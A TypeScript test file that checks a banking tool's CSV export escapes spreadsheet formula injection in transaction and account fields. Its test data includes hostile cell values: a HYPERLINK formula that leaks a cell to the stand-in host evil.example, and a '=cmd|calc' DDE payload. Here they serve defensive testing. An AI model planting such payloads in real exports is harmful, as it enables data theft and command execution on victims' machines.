import { Writable } from 'node:stream';
import type { Account, Transaction } from '@bankkit/core';
import { describe, expect, it } from 'vitest';
import type { OutputDestination } from '../src/output/destination.js';
import { writeAccounts, writeTransactions } from '../src/output/write-output.js';
import { parseCsv } from './helpers/parse-csv.js';

function memoryDestination(): { destination: OutputDestination; text: () => string } {
  let text = '';
  const stream = new Writable({
    write(chunk, _encoding, callback) {
      text += String(chunk);
      callback();
    },
  });
  return {
    destination: { stream, endsStream: true, commit: async () => {}, discard: async () => {} },
    text: () => text,
  };
}

function transaction(description: string, amount: string, counterparty?: string): Transaction {
  return {
    provider: 'bridge',
    id: `tx-${description.length}-${amount}`,
    accountId: '42',
    amount: { amount, currency: 'EUR' },
    bookingDate: '2026-03-01',
    status: 'booked',
    description,
    ...(counterparty ? { counterparty: { name: counterparty } } : {}),
    raw: {},
  } as Transaction;
}

async function* stream(items: Transaction[]): AsyncGenerator<Transaction> {
  yield* items;
}

describe('CSV exports escape spreadsheet formulas', () => {
  it('prefixes text cells that a spreadsheet would run with a quote, and leaves amounts alone', async () => {
    const { destination, text } = memoryDestination();
    const dangerous = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")',
      '+SUM(1,2)',
      '-2+3',
      '@SUM(A1)',
      '\tTAB',
      '\uFF1D1+1',
    ];
    await writeTransactions(
      stream([
        ...dangerous.map((description, index) => transaction(description, `-${index + 1}.50`, '=cmd|calc')),
        transaction('Groceries - weekly', '12.00'),
      ]),
      'csv',
      destination,
      { sandbox: false },
    );
    const rows = parseCsv(text());
    expect(rows.map((row) => row.description)).toEqual([
      ...dangerous.map((cell) => `'${cell}`),
      'Groceries - weekly',
    ]);
    expect(rows.slice(0, dangerous.length).every((row) => row.counterparty_name === "'=cmd|calc")).toBe(true);
    // Amounts are checked decimals: their minus sign is a sign, not a formula.
    expect(rows.map((row) => row.amount)).toEqual([
      '-1.50',
      '-2.50',
      '-3.50',
      '-4.50',
      '-5.50',
      '-6.50',
      '12.00',
    ]);
    expect(rows.every((row) => row.sandbox === 'false')).toBe(true);
  });

  it('escapes account names too, keeping negative balances as numbers', async () => {
    const { destination, text } = memoryDestination();
    const account = {
      provider: 'sparebank1',
      id: 'a1',
      name: '=1+1',
      type: 'card',
      currency: 'NOK',
      balance: { amount: '-130.50', currency: 'NOK' },
      availableBalance: { amount: '-20.00', currency: 'NOK' },
      raw: {},
    } as Account;
    await writeAccounts([account], 'csv', destination, { sandbox: true });
    const [row] = parseCsv(text());
    expect(row?.name).toBe("'=1+1");
    expect(row?.balance).toBe('-130.50');
    expect(row?.available_balance).toBe('-20.00');
    expect(row?.sandbox).toBe('true');
  });
});
